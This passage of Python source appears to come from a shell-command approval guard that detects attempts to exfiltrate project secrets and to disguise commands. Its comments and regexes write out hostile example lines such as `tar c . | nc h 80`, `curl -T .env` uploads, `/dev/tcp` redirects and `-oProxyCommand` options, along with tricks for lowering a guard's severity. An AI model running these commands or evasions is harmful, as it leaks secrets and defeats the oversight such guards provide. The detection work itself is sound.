        if asks or pending:
            return Verdict(ASK, False, tuple(asks + pending), "approval required", tuple(commands))
        return Verdict(ALLOW, False, tuple(matches))

    def _covered(
        self,
        match: Match,
        allow_rules: Iterable[Rule],
        commands: list[str],
        found: Callable[[], list[Piece]],
        moved: bool = False,
    ) -> bool:
        """A dangerous match the allowlist or an allow rule has already approved.

        A pattern key in the allowlist approves the pattern; a glob or an allow rule approves
        a command only as written and only where its context does not change what it does.
        What the detector could not read for certain is never approved in advance.
        """
        if not match.grantable:
            return False
        settings = self.policy.settings
        if match.key in settings.allowlist_keys:
            return True
        if moved or (not settings.allowlist_globs and not allow_rules):
            return False
        if commands:
            same = [p for p in found() if p.text == match.command and p.via == match.via]
            if not same or not all(p.plain for p in same):
                return False
            spellings = [match.command]
        else:  # a path argument: the spelling given and the path it normalises to must both be covered
            spellings = [match.command, posixpath.normpath(match.command)]
        if any(all(glob.match(s) for s in spellings) for _, glob in settings.allowlist_globs):
            return True
        return any(all(glob.match(s) for _, glob in rule.globs for s in spellings) for rule in allow_rules)


class _LazyPieces:
    """The simple commands of a verdict's commands (_pieces), made when first asked for."""

    __slots__ = ("_commands", "_found", "_programs")

    def __init__(self, commands: list[str], programs: ProgramTable, found: list[Piece] | None) -> None:
        self._commands = commands
        self._programs = programs
        self._found = found

    def __call__(self) -> list[Piece]:
        found = self._found
        if found is None:
            found = self._found = _pieces(self._commands, self._programs)[1]
        return found


class _Judged:
    """The pieces of the flat text (_flat_commands) one check's flat scans judged in full, by the
    folders a `cd` of the text names (_flat_directories): a piece's runs judge alike in every reading
    of the text that names the same folders (the same view, index and words), so another reading
    (a disguise deleted, a fold) judges only the pieces it changes. Made per check, never kept."""

    __slots__ = ("by_folders", "cuts")

    def __init__(self) -> None:
        self.by_folders: dict[tuple[str, ...], _Pieces] = {}
        # by the same folders: the cut text (_flat_commands) of a reading judged in full, every
        # piece of it in by_folders: another reading's pieces are those of the part it changes
        self.cuts: dict[tuple[str, ...], bytes] = {}

    def pieces(self, folders: tuple[str, ...]) -> _Pieces:
        known = self.by_folders.get(folders)
        if known is None:
            known = self.by_folders[folders] = _Pieces()
        return known


class _Pieces:
    """Pieces judged in full (see _Judged): a set, and the cut texts (pieces one a line) of readings
    judged whole, whose lines are put in the set only when a reading asks about many pieces. The
    first reading of a long text then makes no set of its ~8,000 pieces (~0.85 ms at 64 KiB): a
    reading that changes a few of them (a disguise deleted) asks about those few, each one C
    search of the kept text."""

    __slots__ = ("_cuts", "_known")

    def __init__(self) -> None:
        self._known: set[bytes] = set()
        self._cuts: list[bytes] = []  # each framed by line breaks: `\nPIECE\n` finds a whole line

    def empty(self) -> bool:
        return not self._known and not self._cuts

    def add_cut(self, cut: bytes) -> None:
        """Every line of ``cut`` is judged."""
        self._cuts.append(b"\n" + cut + b"\n")

    def update(self, pieces: list[bytes]) -> None:
        self._known.update(pieces)

    def unknown(self, pieces: dict[bytes, None]) -> set[bytes]:
        """Those of ``pieces`` not judged yet."""
        if self._cuts and len(pieces) <= _FEW_NEW:
            known, cuts = self._known, self._cuts
            return {p for p in pieces if p not in known and not any(b"\n" + p + b"\n" in c for c in cuts)}
        for framed in self._cuts:
            self._known.update(framed.split(b"\n"))
        self._cuts.clear()
        return pieces.keys() - self._known


class _LazyBudget:
    """One check's budget, shared by its readings, made only when something is parsed; and the
    pieces its flat scans judged (_Judged)."""

    __slots__ = ("budget", "judged")

    def __init__(self) -> None:
        self.budget: Budget | None = None
        self.judged: _Judged | None = None  # made when the text has other readings

    def get(self) -> Budget:
        if self.budget is None:
            self.budget = Budget(MAX_TOKENS, BUDGET)
        return self.budget


UNREAD = "session_file_unread"
# (xf48a) A glob word that may expand to a name starting with `-` where an earlier command of the line wrote names it
# does not show (shell.Analyzer._unknown_names: `git checkout B; find . -del*`): among the unread as `$unknown_names:W`
UNKNOWN_NAMES = "glob_of_unknown_names"
_UNKNOWN_MARK: Final = "$unknown_names:"
_UNKNOWN_NAMES: Final = (
    "a glob word that may expand to a name starting with `-` (an option to its program), in a folder where an"
    " earlier command of the line wrote files it does not name (a checkout, an archive's members): which names"
    " it expands to is not known"
)
# (xf49) A lister's expression holding a word a substitution or xargs makes where it may be an action (shell.Analyzer.
# _split_expression: `find . $(cat f.txt)`, `ls | xargs find .`): among the unread as `$unknown_expression:W`
UNKNOWN_EXPRESSION = "expression_of_unknown_words"
_EXPRESSION_MARK: Final = "$unknown_expression:"
_UNKNOWN_EXPRESSION: Final = (
    "a search whose expression holds words known only when it runs (a substitution's output split into words, the"
    " names xargs appends): a name or a line `-delete` or `-exec CMD ;` there is an action it takes"
)
# (fp49) A listing of the tree read from the disk before the line runs (`rm -f $(find . -name X)`, `find . -name X |
# xargs rm`) where an earlier command of the line may make or rename entries (shell.Analyzer._listings_made: judged
# by what it writes), IFS is changed, or a background writer of the session still runs: a name it makes with a
# blank splits into another path (`mkdir -p "x $HOME"`): among the unread as `$unknown_listing:WORD`
UNKNOWN_LISTING = "listing_of_names_made_on_the_line"
_LISTING_MARK: Final = "$unknown_listing:"
_UNKNOWN_LISTING: Final = (
    "a listing of the tree read before the line runs, where an earlier command of the line (or a background writer of"
    " the session) may make or rename entries, or IFS is changed: a name with a blank splits into other paths, so"
    " which names it hands on is not known"
)
# (stop 57, adv57) A shell's text in a syntax of its own the analyzer does not read (follow.Follower._payload: csh's
# `set NAME=VALUE`, `setenv`, `@`, `$NAME:r` modifiers and `=N` stack folders, fish's `function` bodies): its variables
# and calls are not followed, so what its commands are given is not known: among the unread as `$unread_shell:TEXT`
UNREAD_SHELL = "shell_syntax_unread"
_UNREAD_SHELL: Final = (
    "a shell's text in a syntax the engine does not follow (csh's variables and their modifiers, fish's functions):"
    " what its commands are given is not known"
)
# (xf49b) A program reading options that run code given, where it reads them, a word known only when it runs
# (shell.Analyzer._split_options: `git $(cat f.txt)`, `ssh $(cat o) h`): among the unread as `$unknown_options:W`
UNKNOWN_OPTIONS = "options_of_unknown_words"
_OPTIONS_MARK: Final = "$unknown_options:"
_UNKNOWN_OPTIONS: Final = (
    "a program given, where it reads its options, words known only when it runs (a substitution's output split into"
    " words, a variable's value): one may be an option that runs a command (`-c core.fsmonitor=CMD`, `-oProxyCommand`)"
)
# (quiet42) A quiet search of a folder holding a secret, asking what the session's earlier quiet searches did
# not (_prints_trees, _asked_before): with project_exfiltration's match, the reason a human reads
QUIET_SEARCH_AGAIN = "quiet_search_again"
_QUIET_AGAIN = (
    "a search printing only names, counts or whether it found anything, of a folder holding a secret, after this"
    " session searched so with another pattern or options: each answer tells one more piece of what the files"
    " hold (one call a guess spells the secret out)"
)


UNKNOWN_COMMAND = "unknown_command"
_NOT_YET: Final = 1 << 30  # in _match: no matcher met by a run-time name alone yet
# The severities of the built-in detection (a policy's own deny and ask rules keep theirs).
_BUILT_IN: Final = frozenset({"hardline", "dangerous"})
# (help38) What a match on a command that runs nothing (argv.runs_nothing) weighs: a hardline one asks.
_QUIETER: Final = {"hardline": "dangerous"}


def _posixly_correct(text: str) -> bool:
    """(holes39) Whether POSIXLY_CORRECT may be in the environment of a command of ``text``: named on the line
    (`POSIXLY_CORRECT=1 shutdown now --help`, an `export` of it), or in the engine's own environment (which the
    caller's shell may share). Then getopt ends a permuting program's options at its first operand, and a later
    `--help` is an operand (argv.runs_nothing_later): the verb runs."""
    return "POSIXLY_CORRECT" in text or "POSIXLY_CORRECT" in os.environ


# (xfail40) A line that may put a variable it does not name into a later command's environment: it sources a
# file or evaluates text (`. ./e`, `source`, `eval`, `set -a`), or exports, declares or reads a name it computes
# (`export POSIXLY_${X}CORRECT=1`, `export "$v"`, `env "$kv" CMD`, `read "$n"`, `printf -v "$n"`).
# (xfail41) `.`, source and eval as a command, an assignment before it too (`X=1 . ./e`; not `cd .`, `ls . -a`: read
# for a background shell's every later line)
_SETS_UNNAMED = re.compile(
    r"(?:^|[;&|(){}!`\n]|\b(?:then|do|else|time|command|builtin)\s|=\S*\s)\s*(?:\.|source|eval)\s"
    r"|(?:^|[\s;&|(){}!`])(?:set\s+[-+][A-Za-z]*a"
    r"|(?:export|declare|typeset|readonly|local|env|printf|read|mapfile|readarray|getopts)\s[^;&|\n]*[$`])"
)
# a login or interactive shell reads start-up files (`bash -l -c`, `sh -i`, `--login`)
_LOGIN_SHELL = re.compile(r"(?:^|\s)(?:-[A-Za-z]*[li][A-Za-z]*|--login|--interactive|-o\s*login)(?:\s|$)")


def _environment_unknown(command: Command, text: str, keeps: frozenset[str]) -> bool:
    """(xfail40) Whether ``command`` may run with variables no word of ``text`` names (then POSIXLY_CORRECT may be
    one: see _posixly_correct): the line may set unnamed ones (_SETS_UNNAMED), or a wrapper that loads an
    environment of its own started it (`direnv exec . CMD`, `pipenv run CMD`: any not in the table's
    `keeps_environment`), or a login shell or a zsh (its start-up files). Read only for a command whose hardline
    match a later `--help` would lower."""
    for name in command.via:
        if name not in keeps:
            return True
        if name in SHELLS and (name in ("zsh", "fish", "csh", "tcsh") or _LOGIN_SHELL.search(text) is not None):
            return True
    return _SETS_UNNAMED.search(text) is not None


# (adv41b) The builtins that run a file's or a text's commands in the shell itself: any variable may be set
_SOURCING: Final = frozenset({".", "source", "eval"})


def sets_unnamed(commands: Sequence[Command]) -> bool:
    """(adv41b) Whether a command the line's reading found may set variables no word of the line names, or names
    POSIXLY_CORRECT once its quotes are read: `.`/source/eval however the line spells or places them (`\\. ./e`,
    `'.' ./e`, `so''urce ./e`, `if . ./e; then`, `2>/dev/null . ./e`, `command -p . ./e`, `trap '. ./e' DEBUG`: the
    text's pattern, _SETS_UNNAMED, reads a `.` only after a command's start), `export POSIXLY_CORR''ECT=1`. Read
    only where a later `--help` would lower a hardline match."""
    for command in commands:
        if command.name in _SOURCING or any("POSIXLY_CORRECT" in word for word in command.argv):
            return True
    return False


def _by_name_alone(matcher: Matcher) -> bool:
    """Whether ``matcher`` names programs and tests nothing a command's words must hold (a subcommand,
    a flag, an argument, a redirection, its text or input): a command whose name is known only at run
    time meets it whatever it is."""
    if matcher.names is None and not matcher.name_globs:
        return False
    return not (
        any(matcher.subcommands)
        or matcher.flags
        or matcher.all_flags
        or matcher.args is not None
        or matcher.words is not None
        or matcher.options
        or matcher.redirects is not None
        or matcher.reads is not None
        or matcher.fed_by
        or matcher.via
        or matcher.text is not None
        or matcher.code is not None
        or matcher.code_paths is not None
        or matcher.indirect is not None
    )


def _unknown(command: Command) -> Match:
    """A command whose name is known only at run time and whose words show nothing harmful: it could
    be any program (`$EDITOR f`, `"$PAGER" README`, `timeout 5 "$CMD"`). Asked, and never granted: the
    same text may name another program later in the session."""
    reason = (
        "a command whose name is known only when it runs (a variable or substitution the line does not "
        "set): it could be any program"
    )
    return Match(UNKNOWN_COMMAND, reason, "dangerous", command.text, command.via, grantable=False)


UNWALKED: Final = "followed_tree_unwalked"


def _through_globbed_links(
    command: Command, view: View, fresh: bool, out: list[Command], unwalked: list[Match]
) -> list[Command]:
    """``out`` with ``command`` (a recursive reader: links.RECURSIVE) again for each place a word of
    it reaches beyond its text (links.tree_landings: a glob naming a link, a folder holding HOME);
    copied first when ``fresh``. A glob past its bound is a match in ``unwalked``."""
    places = view._classifier.places
    if places is None:
        return out
    argv = command.argv
    cwd = command.cwd if command.cwd is not None and command.cwd.startswith("/") else view._cwd
    for i in recursive_words(command):
        if command.dynamic[i]:
            continue
        landings = tree_landings(argv[i], cwd, places.home, command.name == "rm")
        if landings is None:
            reason = (
                "a recursive reader's glob names more files than are read here: a link among them may lead anywhere"
            )
            unwalked.append(Match(UNWALKED, reason, "dangerous", command.text, command.via, grantable=False))
            continue
        for landing in landings:
            if fresh:
                out, fresh = list(out), False
            spelled = "~" if landing == places.home else landing
            followed = (*argv[:i], spelled + ("/" if argv[i].endswith("/") else ""), *argv[i + 1 :])
            out.append(_through_link(command, followed))
    return out


def _curl_globbed(command: Command) -> Command | None:
    """curl again with each file its upload option names by curl's own globbing (`-T "{.env,notes.txt}"`,
    `--upload-file=x[1-3].log`: curl expands `{a,b}` sets and `[a-z]` / `[1-9]` ranges, quoted or not) named
    alone: `curl -T .env -T notes.txt URL`. None when no upload word has a `{` or a `[`."""
    argv = command.argv
    words: list[str] = [argv[0]]
    changed = False
    i = 1
    while i < len(argv):
        word = argv[i]
        value: str | None = None
        taken = 1
        if word.startswith("--upload-file="):
            value = word[len("--upload-file=") :]
        elif word == "--upload-file" or _CURL_T.fullmatch(word) is not None:
            value, taken = (argv[i + 1] if i + 1 < len(argv) else None), 2  # `-T F`, `-sT F`
        elif word.startswith("-T") and len(word) > 2:
            value = word[2:]
        if value is not None and ("{" in value or "[" in value):
            changed = True
            for name in curl_glob_names(value):
                words.extend(("-T", name))
        else:
            words.extend(argv[i : i + taken])
        i += taken
    if not changed:
        return None
    return _through_link(command, tuple(words), "glob", (False,) * len(words))


# `-T` alone or after flags that take no value (`-sT F`; not `-XPUT`: -X takes one)
_CURL_T = re.compile(r"-[sSfLkvi#qgGIjJlnNOpRZ]*T")
_CURL_RANGE = re.compile(r"\[([^\]:]*)(?::\d+)?\]")
_CURL_NAMES = 64


def curl_glob_names(value: str) -> list[str]:
    """The names curl's globbing gives ``value`` (its `{a,b}` sets expanded; a letter range kept as the
    bash bracket it equals, `[a-c]`, any other range as `*`); past 64 names, one with every set a `*`."""
    names = [""]
    i = 0
    while i < len(value):
        ch = value[i]
        if ch == "\\" and i + 1 < len(value):
            names = [n + value[i + 1] for n in names]
            i += 2
            continue
        if ch == "{" and "}" in value[i:]:
            end = value.index("}", i)
            choices = value[i + 1 : end].split(",")
            if len(names) * len(choices) > _CURL_NAMES:
                return [_CURL_RANGE.sub("*", re.sub(r"\{[^}]*\}", "*", value))]
            names = [n + c for n in names for c in choices]
            i = end + 1
            continue
        if ch == "[":
            found = _CURL_RANGE.match(value, i)
            if found is not None:
                span = found.group(1)
                letters = len(span) == 3 and span[1] == "-" and span[0].isalpha() and span[2].isalpha()
                names = [n + (f"[{span}]" if letters else "*") for n in names]
                i = found.end()
                continue
        names = [n + ch for n in names]
        i += 1
    return names


# Recursive copiers (trees.RECURSIVE says when they are): a later word naming the copy names what was copied
_TREE_COPIERS: Final = frozenset({"cp", "gcp", "rsync"})


def _copied_trees(commands: list[Command]) -> list[Command]:
    """The commands, and each command after a recursive copy on the line (`cp -r . /tmp/c`, `rsync -a src/
    /tmp/c`) again with a word naming the copy (`/tmp/c`, `/tmp/c/x`) replaced by each source it was
    copied from: the copy is not on disk when the line is judged, and holds what its source holds."""
    copies: list[tuple[str, list[str]]] = []
    out = commands
    for command in commands:
        argv = command.argv
        for destination, sources in copies:
            for i, word in enumerate(argv[1:], 1):
                path = _from_start(word, command.cwd)
                if path == destination or path.startswith(destination + "/"):
                    for source in sources:
                        replaced = (*argv[:i], source + path[len(destination) :], *argv[i + 1 :])
                        copied = _through_link(command, replaced, "copy")
                        if command.cwd is not None and not source.startswith(("/", "~")):
                            # moved by `cd` (`cp -r . ../c; cd ../c && cat .*`): a source named from where the
                            # line started is read from there (open37)
                            copied.cwd = None
                        out = [*out, copied]
        if command.name in _TREE_COPIERS:
            indices = recursive_words(command)
            words = [argv[i] for i in indices]
            target = _target_directory(argv)
            if target is not None:
                sources, destination = [w for w in words if w != target], target
            elif len(words) > 1:
                sources, destination = words[:-1], words[-1]
            else:
                continue
            if sources and ":" not in destination:
                absolute = _from_start(destination, command.cwd).rstrip("/") or "/"
                copies.append((absolute, [_from_start(w, command.cwd) for w in sources]))
    return out


# a folder named relative to where the line started, with no value known only when it runs (`../c`, `out/x`)
_PLAIN_FOLDER: Final = re.compile(r"(?!/|~)[\w./@+-]+")


def _from_start(word: str, cwd: str | None) -> str:
    """``word`` named from where the line started: joined to the folder a command ran in when that is known, an
    absolute one or one named from the start (`cd ../c`); otherwise as spelled."""
    if cwd is not None and not word.startswith(("/", "~")) and _PLAIN_FOLDER.fullmatch(cwd) is not None:
        return posixpath.normpath(posixpath.join(cwd, word))
    return _absolute(word, cwd)


def _absolute(word: str, cwd: str | None) -> str:
    """``word`` joined to the folder a command ran in, when that is known (otherwise as spelled)."""
    if cwd is not None and cwd.startswith("/") and not word.startswith(("/", "~")):
        return posixpath.normpath(posixpath.join(cwd, word))
    return word


def _target_directory(argv: tuple[str, ...]) -> str | None:
    """cp's `-t DIR` / `--target-directory=DIR`: the folder it copies into, when named so."""
    for i, word in enumerate(argv[1:], 1):
        if word.startswith("--target-directory="):
            return word.partition("=")[2]
        if (
            word == "--target-directory" or (word[:1] == "-" and word[1:2] != "-" and word.endswith("t"))
        ) and i + 1 < len(argv):
            return argv[i + 1]
    return None


def _implicit_folders(commands: list[Command]) -> list[Command]:
    """The commands, and each tree reader that names no folder again, with the working folder it reads
    named (trees.implicit_folder: `find -type f -exec cat {} +` is `find . -type f -exec cat {} +`)."""
    out = commands
    for command in commands:
        if command.name not in IMPLICIT_FOLDER:
            continue
        at = implicit_folder(command)
        if at:
            argv = (*command.argv[:at], ".", *command.argv[at:])
            dynamic = (*command.dynamic[:at], False, *command.dynamic[at:])
            out = [*out, _through_link(command, argv, "cwd", dynamic)]
    return out


def _through_link(
    command: Command, argv: tuple[str, ...], mark: str = "link", dynamic: tuple[bool, ...] | None = None
) -> Command:
    """``command`` with the words ``argv``, read through a link (marked so: no link is followed twice), or
    otherwise (``mark``; ``dynamic``: its words' flags when they are not ``command``'s)."""
    return Command(
        command.name,
        argv,
        command.dynamic if dynamic is None else dynamic,
        command.redirects,
        command.stdin,
        command.fed_by,
        (*command.via, mark),
        command.code,
        command.depth,
        command.cwd,
        command.program,
        command.indirect,
    )


# Programs that send what they read on stdin, or a file named to them, to another host (`tar c . | nc h 80`,
# `curl -T x.tgz URL`), whose input from a tree reader (trees.TREE_READERS) the project_exfiltration rows judge:
# the `sends: [{input: true}]` ways of the Programs tables (policies/senders.yaml).


def _streams(ways: tuple[Send, ...] | None) -> bool:
    """Whether a program's `sends:` ``ways`` say it sends what it reads (`input: true`)."""
    return ways is not None and any(way.stream for way in ways)


# An inline program (Command.code) that opens a connection: `tar c . | python3 -c 'import socket; ...'`.
_NETWORK_CODE: Final = re.compile(
    r"socket|urlopen|urllib|requests\.|http\.client|httpx|aiohttp|IO::Socket|Net::|TCPSocket|fetch\(|net\.connect"
    r"|/dev/tcp/|Invoke-WebRequest|WebClient|require\(.(?:node:)?(?:net|https?|dgram|tls).\)"
    r"|fsockopen|curl_init"  # PHP's (redt35; stream_socket_client is a socket above)
)


# Batch uploaders (a `sends:` way of theirs reads a `script:`: sftp, lftp, smbclient, ftp) whose script puts
# local files (redt36): their put statements' operands are read as a tree reader's (_batch_puts); and the
# options that give a script file (`sftp -b F`, `lftp -f F`)
_PUTS = frozenset({"put", "mput", "reput", "rput"})
_SCRIPT_OPTIONS = frozenset({"-b", "-f"})


def _put_scripts(ways: tuple[Send, ...] | None) -> list[Extractor]:
    """The `script:` regexes of a program's `sends:` ``ways``: a batch uploader's put statements."""
    return [way.script for way in ways if way.script is not None] if ways else []


def _sends_away(commands: list[Command], table: Mapping[str, tuple[Send, ...]]) -> bool:
    """Whether the line may send a tree reader's output to another host: a stage fed by a tree reader on
    a line that runs a network sender (`tar c . | nc h 80`; anywhere on the line, as a function's or `sh
    -c`'s body fed by the pipe runs it: `tar c . | f` with `f() { nc h 80; }`), a sender given a word of a
    tree reader's (its archive: `tar czf x.tgz . && curl -T x.tgz URL`, `nc h 80 < x.tgz`), a reader whose
    output goes to `/dev/tcp`, or a program that sends files by its `sends:` in ``table``
    (ProgramTable.senders: `scp -r . host:`, `rsync -a . host:x`, `tar cf host:x .`, `croc send .`):
    set tests per command and the table's regexes, no look at the disk."""
    fed = False
    senders: list[Command] = []
    for command in commands:
        name = command.name
        ways = table.get(name)
        if _streams(ways) or (command.code is not None and _NETWORK_CODE.search(command.code) is not None):
            senders.append(command)  # an interpreter's inline program that opens a connection too
        if not fed and not command.fed_by.isdisjoint(TREE_READERS):
            fed = True
        if ways is not None and sends_away(ways, command.argv, command.stdin):
            return True  # its `sends:` (policies/senders.yaml: `scp -r . h:`, `croc send .`, `tar cf h:x .`)
        if ways is not None and not command.stdin and _put_scripts(ways) and _script_file(command):
            return True  # a script file not read here may put anything (redt36; _batch_puts)
        if name in TREE_READERS and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in command.redirects):
            return True
    if not senders:
        return False
    if fed:
        return True
    written = {w for c in commands if c.name in TREE_READERS for w in c.argv[1:] if w[:1] not in ("", "-")}
    if not written:
        return False
    for command in commands:
        if command.name in _MOVERS:
            # `tar czf x.tgz . && mv x.tgz y.tgz && curl -T y.tgz URL`: the archive under its new name (redt35)
            words = [w for w in command.argv[1:] if w[:1] not in ("", "-")]
            if len(words) > 1 and any(w in written for w in words[:-1]):
                written.add(words[-1])
        elif command.name in COMPRESSORS:  # `tar cf x.tar . && gzip x.tar && curl -T x.tar.gz URL` (tail36)
            written.update(out for w, out in compressed_files(command.name, command.argv) if w in written)
    names = {posixpath.basename(w) for w in written} - {"", ".", ".."}
    for sender in senders:
        if any(_names_written(file_operand(w), written, names) for w in sender.argv[1:]):
            return True
        if any(_names_written(w.partition("=")[2], written, names) for w in sender.argv[1:] if "=" in w):
            return True
        if any(_names_written(target, written, names) for op, target in sender.redirects if op in ("<", "<>")):
            return True
    return False


# Recursive searches that print the lines of every file they read, by the options that make them read a
# folder's hidden or ignored files (none: always; rg, ag and fd skip a `.env` unless told), and the options
# that make them print names or counts instead (`grep -rl`, `rg -c`): a folder holding a secret searched so
# prints the secret to the caller, the one a secret is kept from (View.holders: the project_exfiltration
# rows ask for it).
_TREE_PRINTERS: Final[dict[str, tuple[frozenset[str], frozenset[str]]]] = {
    **dict.fromkeys(
        ("grep", "egrep", "fgrep", "ugrep", "zgrep"),
        (
            frozenset({"r", "R", "recursive", "dereference-recursive"}),
            frozenset({"l", "L", "c", "q", "files-with-matches", "files-without-match", "count", "quiet", "silent"}),
        ),
    ),
    "rg": (
        frozenset({"hidden", ".", "u", "unrestricted", "no-ignore", "no-ignore-vcs", "no-ignore-dot"}),
        frozenset({"l", "c", "q", "files", "files-with-matches", "files-without-match", "count", "count-matches"})
        | frozenset({"quiet", "type-list"}),
    ),
    "ag": (
        frozenset({"hidden", "u", "unrestricted", "skip-vcs-ignores", "U", "all-text", "t"}),
        frozenset({"l", "L", "c", "files-with-matches", "files-without-matches", "count", "list-file-types"}),
    ),
    "ack": (frozenset(), frozenset({"l", "L", "c", "f", "g", "files-with-matches", "files-without-matches", "count"})),
    "pt": (
        frozenset({"hidden", "U", "skip-vcs-ignores"}),
        frozenset({"l", "L", "c", "files-with-matches", "files-without-matches", "count"}),
    ),
    # a recursive diff prints the lines of each file that differs, or is on one side only with -N
    **dict.fromkeys(("diff", "gdiff", "colordiff"), (frozenset({"r", "recursive"}), frozenset({"q", "brief"}))),
}
_TREE_PRINTERS["ggrep"] = _TREE_PRINTERS["grep"]
_TREE_PRINTERS["ug"] = (frozenset(), _TREE_PRINTERS["grep"][1])  # ugrep searching the working folder by default
_TREE_PRINTERS["ack-grep"] = _TREE_PRINTERS["ack"]
_GREPS: Final = frozenset({"grep", "egrep", "fgrep", "ugrep", "zgrep", "ggrep", "ug"})
# git's searches and diffs of files outside its index (`git grep --no-index X`, `git grep --untracked
# --no-exclude-standard X`, `git diff --no-index empty .`), and the options that print names or counts
_GIT_QUIET = frozenset({"l", "L", "c", "q", "files-with-matches", "files-without-match", "count", "quiet"})
_GIT_QUIET |= frozenset({"stat", "numstat", "shortstat", "name-only", "name-status", "summary", "dirstat"})
# Finders handing each file they find to a program (`find . -exec cat {} +`, `fd -H -X cat`, `find . | xargs
# cat`): every one prints what it reads but these, which print names, sums or nothing of a file's text.
_FINDERS: Final = frozenset({"find", "gfind", "bfs", "fd", "fdfind"})
_FINDER_RUNS = frozenset({"exec", "execdir", "ok", "okdir", "x", "X", "exec-batch"})
_SHELLS: Final = SHELLS | {""}  # (a program known only at run time too)
_FD_HIDDEN = frozenset({"H", "hidden", "u", "unrestricted", "I", "no-ignore"})
_NAME_ONLY: Final = frozenset(
    {"rm", "rmdir", "unlink", "chmod", "chown", "chgrp", "touch", "ls", "stat", "file", "wc", "du", "echo"}
    | {"printf", "basename", "dirname", "realpath", "readlink", "test", "[", "true", "false", "mkdir", "mv", "cp"}
    | {"md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "cksum", "shred", "git", "dos2unix", "sed"}
)


_COPY_UNREAD: Final = _NAME_ONLY - {
    "sed",
    "cp",
    "mv",
}  # (sed prints what it reads, unless -i: `cp -r . ../c; sed p ../c/.*`;
# cp and mv move what they read on, where a later word reads it: `cp ../c/.e* /tmp/z; cat /tmp/z`, adv37)
_DEREFERENCES: Final = frozenset({"R", "dereference-recursive"})  # a search following every link of the tree
_SECRET_LISTED = frozenset({"secret", "credential", "secret_parent", "computed_source"})


def _includes_secrets(view: View | None, shaped: Shape, includes: list[str]) -> bool:
    """Whether a search following links whose `--include` globs pass source names only may still read a
    secret: a link in its folders named as they pass leading to one, read as `$(find FOLDER -name GLOB)`
    lists it (paths.PathClassifier._listed: a link is judged where it lands). A folder no listing of the
    tree can name (`/srv/x`, `..`), or no view of the disk, may (fail closed)."""
    if view is None:
        return True
    given = bool(shaped.option_values("e") or shaped.option_values("f") or shaped.option_values("regexp"))
    folders = shaped.positionals[0 if given else 1 :] or ["."]
    for folder in folders:
        for glob in includes:
            word = f"$(find {folder} -name '{glob}')"
            if not lists_tree(word) or not view.classify(word).isdisjoint(_SECRET_LISTED):
                return True
    return False


def _tree_flags(command: Command) -> frozenset[str] | set[str]:
    """A tree printer's flags, grep's `-d rec` (argmatch's unique prefix of `recurse`) read as `-r`."""
    shaped = _shaped(command)
    present = shaped.short | shaped.long
    actions = shaped.option_values("d") + shaped.option_values("directories")
    if command.name in _GREPS and any(a.startswith("rec") and "recurse".startswith(a) for a in actions):
        present = present | {"r"}
    return present


def _prints_trees(
    commands: list[Command],
    text: str,
    view: View | None = None,
    session: SessionView | None = None,
) -> bool:
    """Whether a stage of the line prints the text of every file of a folder it walks (to the caller,
    or to a file it reads next): `grep -r X .`, `rg --hidden X .`, `ack X .`, `find . -exec
    cat {} +`, `fd -H -X cat`, `find . -type f | xargs cat`. Set tests per command, no look at the disk.
    A file a search's output is written to and a later stage prints is printed too (`grep -r X . > o; cat o`).
    A search printing names, counts or only its status is judged so too when asked again: on the line
    (_asked_again), or after the session's earlier calls searched quietly for another pattern (``session``'s
    quiet searches, SessionFiles.searched: _asked_before)."""
    kept: set[str] = set()
    for command in commands:
        name = command.name
        if name in _TREE_PRINTERS:
            walks, quiet = _TREE_PRINTERS[name]
            shaped = _shaped(command)
            present = _tree_flags(command)
            if walks and present.isdisjoint(walks):
                continue
            if not present.isdisjoint(quiet) and not _asked_again(command, commands):
                if session is None or not session.files.quiet or not _asked_before(command, session):
                    continue
                if view is not None:
                    view.asked_before = command.text
            includes = shaped.option_values("include")
            # `grep -r --include='*.py' X .`: no secret's name passes; with -R, a link whose name passes is
            # read where it leads (`src/k.py -> .env`, debt37): read as find lists it
            if (
                includes
                and all(_SOURCE_NAMES.fullmatch(glob) for glob in includes)
                and (present.isdisjoint(_DEREFERENCES) or not _includes_secrets(view, shaped, includes))
            ):
                continue
            if _reaches_caller(command, commands, text, 0, kept):
                return True
        elif name == "git":
            if (_git_prints_files(command) or _git_staged_trees(command, commands)) and _reaches_caller(
                command, commands, text, 0, kept
            ):
                return True
        elif name in _FINDERS:
            # what it runs on each file, as the line reads it (`-exec sh -c 'wc -l "$1"'` runs wc), else by name
            inner = [(c.name, *c.argv[1:]) for c in commands if name in c.via and c.name not in _SHELLS]
            runs = [run for run in inner or _finder_run_argvs(command) if _prints_text(run)]
            if runs and _finds_secrets(command) and _reaches_caller(command, commands, text, 0, kept):
                return True
        elif (
            command.code is not None
            and _walks_in_code(command.code)
            and _reaches_caller(command, commands, text, 0, kept)
        ):
            return True  # `python3 -c "[print(open(f).read()) for f in os.listdir('.')]"`
        elif name in _ARCHIVERS and (to := _archives_to(command)) is not None and ("$" in to or "`" in to):
            return True  # `tar czf "$(mktemp)" .`: an archive named only by the run, which no later call can be
            # followed to by name (open37)
        elif name in _ARCHIVERS and _archives_to(command) == "-" and _reaches_caller(command, commands, text, 0, kept):
            return True  # `tar c .`, `tar cf - . | strings`, `zip -r - . | cat`, `find . | cpio -o`
        elif (
            _prints_text((name, *command.argv[1:]))
            and not command.fed_by.isdisjoint(_FINDERS)
            and ("xargs" in command.via or "parallel" in command.via)
            and any(c.name in command.fed_by and _finds_secrets(c) for c in commands if c.name in _FINDERS)
            and _reaches_caller(command, commands, text, 0, kept)
        ):
            return True  # `find . -type f | xargs cat`: each file found handed to a reader
    return _prints_archive(commands, text, kept)


# Archivers, and the stages their output goes through unchanged or encoded (what the last prints is the
# archive); the stages that keep it from the caller: extracting it to disk, counting or summing it.
_ARCHIVERS: Final = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "cpio", "bsdcpio", "pax", "afio"})
_COUNTERS = frozenset({"wc", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum"})
_OUTPUT_FILES = ("/dev/null", "/dev/std", "/dev/tty", "/dev/fd/", "/proc/self/fd/")
# A file naming the terminal or a descriptor however it is spelled (redt37): `/dev//stdout`, `/dev/./stderr`,
# `/dev/../dev/tty`, `/proc/thread-self/fd/1`, `/proc/$$/fd/2`, `/dev/pts/0`, `../../dev/stdout`
_TERMINAL_PATH = re.compile(r"(?:dev/(?:std|tty|fd/|pts/|console)|proc/)")
_TERMINAL_IN: Final = re.compile(
